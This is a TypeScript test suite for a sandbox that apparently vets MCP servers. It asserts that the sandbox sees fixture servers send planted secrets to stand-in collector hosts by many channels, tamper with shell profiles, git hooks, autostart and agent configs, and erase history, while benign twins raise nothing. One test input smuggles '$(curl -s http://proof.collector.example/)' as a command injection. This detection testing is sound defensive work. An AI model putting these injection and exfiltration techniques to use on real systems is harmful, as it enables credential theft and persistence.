// What misbehaving servers do is seen, and their benign twins are left in peace.
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BoxEvent } from '../../src/sandbox/isolation/types.ts';
import { EGRESS, runInBox, suspicious, whyNoBox, type RunInput } from './isolation-harness.ts';

const reason = await whyNoBox();
const title = reason === null ? 'the sandbox' : `the sandbox (skipped: ${reason})`;

type Expected = Record<string, unknown> & { type: BoxEvent['type'] };
interface Case extends RunInput {
  fixture: string;
  what: string;
  sees: Expected;
  twin?: string | null;
}

const planted = (id: string, encoding: string) =>
  expect.arrayContaining([{ id, kind: 'planted', encoding }]);
const egress = (expected: Record<string, unknown>): Expected => ({ type: 'egress', ...expected });

const CASES: Case[] = [
  {
    fixture: 'b01-fetch-on-start',
    what: 'a request at the start, over TLS',
    sees: egress({
      proto: 'http',
      host: 'stats.collector.example',
      port: 443,
      tls: 'decrypted',
      method: 'GET',
      path: '/started?v=1',
    }),
  },
  {
    fixture: 'b02-raw-tcp',
    what: 'a bare connection with what it says',
    sees: egress({
      proto: 'tcp',
      host: '203.0.113.7',
      ip: '203.0.113.7',
      port: 4444,
      excerpt: 'hello from dev',
    }),
  },
  {
    fixture: 'b03-dns-exfil',
    what: 'a secret in names of DNS questions to a foreign server',
    sees: {
      type: 'dns',
      ip: '203.0.113.53',
      recordType: 'TXT',
      canaries: planted('env:GITHUB_TOKEN', 'hex+split'),
    },
  },
  {
    fixture: 'b04-child-curl',
    what: 'what a child says over TLS',
    sees: egress({
      proto: 'http',
      host: 'drop.collector.example',
      port: 443,
      method: 'POST',
      path: '/curl',
      excerpt: expect.stringContaining('user=dev'),
    }),
  },
  {
    fixture: 'b06-worker',
    what: 'a request of a worker thread',
    sees: egress({ proto: 'http', host: 'worker.collector.example', port: 80, path: '/w' }),
  },
  {
    fixture: 'b07-python-child',
    what: 'a connection of another language',
    sees: egress({ proto: 'tcp', ip: '198.51.100.23', port: 8081, excerpt: 'from python' }),
  },
  {
    fixture: 'b08-on-call',
    what: 'a request that a tool call makes, with the tool',
    sees: egress({
      host: 'calls.collector.example',
      phase: 'fuzz',
      tool: 'work',
      excerpt: expect.stringContaining('hello'),
    }),
  },
  {
    fixture: 'b09-keys-base64',
    what: 'keys that leave in base64 over TLS',
    sees: egress({
      host: 'keys.collector.example',
      tls: 'decrypted',
      canaries: expect.arrayContaining([
        { id: 'file:.aws/credentials', kind: 'planted', encoding: 'base64' },
        { id: 'file:.npmrc', kind: 'planted', encoding: 'base64' },
        { id: 'file:.ssh/id_ed25519', kind: 'planted', encoding: 'base64' },
      ]),
    }),
  },
  {
    fixture: 'b10-udp',
    what: 'a datagram',
    sees: egress({ proto: 'udp', ip: '198.51.100.9', port: 9999, excerpt: 'beacon' }),
  },
  {
    fixture: 'b11-ipv6',
    what: 'a connection over IPv6',
    sees: egress({ proto: 'tcp', ip: '2001:db8::beef', port: 8082, excerpt: 'over six' }),
  },
  {
    fixture: 'b12-ping',
    what: 'an echo request',
    sees: egress({ proto: 'icmp', ip: '203.0.113.99' }),
    // Seen by the firewall only, which is asked when the run is flushed.
    timeoutMs: 600,
  },
  {
    fixture: 'b14-delayed',
    what: 'what comes late, if it is waited for',
    env: { DELAY_MS: '300' },
    sees: egress({ host: 'late.collector.example' }),
  },
  {
    fixture: 'b15-environment',
    what: 'secrets of the environment that leave',
    sees: egress({ host: 'env.collector.example', canaries: planted('env:GITHUB_TOKEN', 'plain') }),
  },
  {
    fixture: 'b16-detached',
    what: 'a request of a grandchild after the server has ended',
    sees: egress({ host: 'ghost.collector.example', path: '/boo' }),
  },
  {
    fixture: 'b21-fetch-tool',
    what: 'what a tool fetches',
    text: 'http://169.254.169.254/latest/meta-data/',
    sees: egress({ ip: '169.254.169.254', port: 80, path: '/latest/meta-data/', tool: 'work' }),
  },
  {
    fixture: 'b23-if-network-is-real',
    what: 'a request that is made only where not every name exists',
    sees: egress({ host: 'careful.collector.example' }),
  },
  {
    fixture: 'b24-internal-binding',
    what: 'a connection made past the usual modules',
    sees: egress({ proto: 'tcp', ip: '203.0.113.24', port: 8444 }),
  },
  {
    fixture: 'b26-command-injection',
    what: 'a command of ours that ran',
    text: '$(curl -s http://proof.collector.example/)',
    sees: egress({ host: 'proof.collector.example', tool: 'work' }),
  },
  {
    fixture: 'b27-pinned-tls',
    what: 'the name that a client asks for which does not trust us',
    twin: null,
    sees: egress({ proto: 'tls', tls: 'refused', sni: 'pinned.collector.example', port: 8443 }),
  },
  {
    fixture: 'b27-http2',
    what: 'HTTP/2',
    twin: 'b27.benign',
    sees: egress({
      host: 'two.collector.example',
      path: '/h2',
      method: 'POST',
      canaries: planted('env:OPENAI_API_KEY', 'plain'),
    }),
  },
  {
    fixture: 'b27-smtp',
    what: 'a letter',
    twin: null,
    sees: egress({
      proto: 'tcp',
      host: 'mail.collector.example',
      port: 25,
      canaries: planted('env:NPM_TOKEN', 'plain'),
    }),
  },
  {
    fixture: 'b27-websocket',
    what: 'what is said over a WebSocket',
    twin: null,
    sees: egress({
      host: 'socket.collector.example',
      path: '/live',
      canaries: planted('env:STRIPE_SECRET_KEY', 'plain'),
    }),
  },
  {
    fixture: 'b27-quic',
    what: 'a datagram of HTTP/3',
    twin: null,
    sees: egress({ proto: 'udp', ip: '203.0.113.44', port: 443, bytes: 1205 }),
  },
  {
    fixture: 'b30-listens',
    what: 'a door that is open to the network',
    sees: { type: 'listen', port: 7357, isLocal: false },
  },
  {
    fixture: 'b32-dns-base64',
    what: 'a secret in pieces of base64 in names',
    twin: null,
    sees: {
      type: 'dns',
      recordType: 'TXT',
      canaries: planted('env:AWS_SECRET_ACCESS_KEY', 'base64+split'),
    },
  },
  {
    fixture: 'b28-home-writes',
    what: 'a line in the shell profile',
    sees: {
      type: 'file',
      op: 'write',
      path: '~/.bashrc',
      category: 'shell-profile',
      isPlanted: true,
      excerpt: expect.stringContaining('rc.collector.example'),
    },
  },
];

const matches = (event: BoxEvent, expected: Expected): boolean => {
  try {
    expect(event).toMatchObject(expected);
    return true;
  } catch {
    return false;
  }
};

describe.skipIf(reason !== null)(title, { timeout: 20_000 }, () => {
  test.concurrent.each(CASES)(
    'sees $what ($fixture)',
    async ({ fixture, what: _, sees, twin: __, ...input }) => {
      const run = await runInBox({
        ...input,
        fixture: `${fixture}.mjs`,
        until: (event) => matches(event, sees),
      });
      const seen = run.events.filter((event) => event.type === sees.type);
      expect(seen).toContainEqual(expect.objectContaining(sees));
      expect(run.summary.reason).toBeUndefined();
      expect(run.summary).toMatchObject({ complete: true });
    },
  );

  const twins = [
    ...new Set(
      CASES.flatMap(({ fixture, twin }) => (twin === null ? [] : (twin ?? `${fixture}.benign`))),
    ),
    'b29-quiet-read.benign',
  ];
  test.concurrent.each(twins)('has nothing to say of %s', async (fixture) => {
    const run = await runInBox({
      fixture: `${fixture}.mjs`,
      text: 'https://site.example/a',
      env: { DELAY_MS: '100' },
    });
    expect(run.reply).not.toBeNull();
    expect(suspicious(run.events)).toEqual([]);
  });

  test('sees every change that b28 makes in the home folder', async () => {
    const run = await runInBox({ fixture: 'b28-home-writes.mjs' });
    const seen = run.events.flatMap((e) =>
      e.type === 'file' ? [`${e.op} ${e.category} ${e.path}`] : [],
    );
    expect(seen).toEqual(
      expect.arrayContaining([
        'write shell-profile ~/.bashrc',
        'write git-hook ~/project/.git/hooks/post-commit',
        'write agent-config ~/.cursor/mcp.json',
        'write autostart ~/.config/autostart/x.desktop',
        'delete history ~/.bash_history',
      ]),
    );
  });

  test('sees a read whose times were put back, and refuses one without access time', async () => {
    const run = await runInBox({ fixture: 'b29-quiet-read.mjs' });
    expect(run.reply).toBe('EPERM');
    expect(run.events).toContainEqual(
      expect.objectContaining({ type: 'file', op: 'read', path: '~/.netrc' }),
    );
  });

  test('knows in which call a file was read that is noticed later (b33)', async () => {
    const run = await runInBox({ fixture: 'b33-read-in-call.mjs' });
    expect(run.reply).not.toBeNull();
    expect(run.events).toContainEqual(
      expect.objectContaining({
        ...{ type: 'file', op: 'read', path: '~/.netrc' },
        ...{ phase: 'fuzz', tool: 'work' },
      }),
    );
  });

  test('sees each port that one socket knocks at, and calls to all neighbours (b31)', async () => {
    const run = await runInBox({ fixture: 'b31-fan-out.mjs', until: () => false, timeoutMs: 800 });
    const seen = run.events.flatMap((e) =>
      e.type === 'egress' ? [`${e.proto} ${e.ip}:${e.port}`] : [],
    );
    expect([...new Set(seen)].sort()).toEqual([
      'udp 203.0.113.31:7001',
      'udp 203.0.113.31:7002',
      'udp 203.0.113.31:7003',
      'udp 224.0.0.251:5353',
    ]);
  });

  test('has none of the host sockets (b13)', async () => {
    const run = await runInBox({ fixture: 'b13-host-sockets.mjs' });
    expect(run.reply).toBe('none');
  });

  test('serves the page that is asked for, which the tool hands on', async () => {
    const run = await runInBox({
      fixture: 'b21-fetch-tool.mjs',
      text: 'https://page.example/',
      sinkBody: 'marker-4711',
    });
    expect(run.reply).toContain('marker-4711');
  });
});

describe.skipIf(reason !== null)(`${title}: install scripts`, { timeout: 20_000 }, () => {
  let folder = '';
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'mcp-vet-test-'));
    await cp(path.join(EGRESS, 'b05-postinstall'), path.join(folder, 'bad'), { recursive: true });
    await cp(path.join(EGRESS, 'b05-postinstall.benign'), path.join(folder, 'good'), {
      recursive: true,
    });
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  const install = (name: string) =>
    runInBox({
      packageDir: path.join(folder, name),
      command: ['sh', '-c', 'node post.js'],
      cwd: '/opt/server',
      writablePackage: true,
    });

  test('sees what a lifecycle script sends (b05)', async () => {
    const run = await install('bad');
    const canaries = planted('env:NPM_TOKEN', 'plain');
    expect(run.events).toContainEqual(
      expect.objectContaining({ type: 'egress', host: 'install.collector.example', canaries }),
    );
    expect(run.exit).toMatchObject({ code: 0, reason: 'exited' });
  });

  test('lets a lifecycle script write into its own folder', async () => {
    const run = await install('good');
    expect(run.exit).toMatchObject({ code: 0 });
    expect(suspicious(run.events)).toEqual([]);
  });
});
